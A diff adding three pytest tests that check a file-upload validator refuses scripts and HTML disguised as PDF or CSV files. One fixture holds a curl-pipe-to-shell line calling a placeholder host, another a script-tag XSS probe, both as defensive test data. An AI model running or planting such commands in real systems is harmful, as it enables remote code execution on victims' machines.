@@ -83,3 +83,18 @@ def test_evidence_is_stored_under_a_generated_name(inspector: User, concern: Con
     assert evidence.original_name == "passwd.pdf"
     stored = str(evidence.file.name)
     assert "passwd" not in stored and stored.endswith(".pdf")
+
+
+def test_a_script_renamed_pdf_is_refused() -> None:
+    with pytest.raises(ValidationError):
+        check_upload(SimpleUploadedFile("report.pdf", b"#!/bin/sh\ncurl http://example.invalid | sh\n"))
+
+
+def test_a_script_named_csv_is_refused() -> None:
+    with pytest.raises(ValidationError):
+        check_upload(SimpleUploadedFile("actions.csv", b"#!/bin/sh\necho a,b\n"))
+
+
+def test_html_named_csv_is_refused() -> None:
+    with pytest.raises(ValidationError):
+        check_upload(SimpleUploadedFile("actions.csv", b"<script>alert(1)</script>\n"))
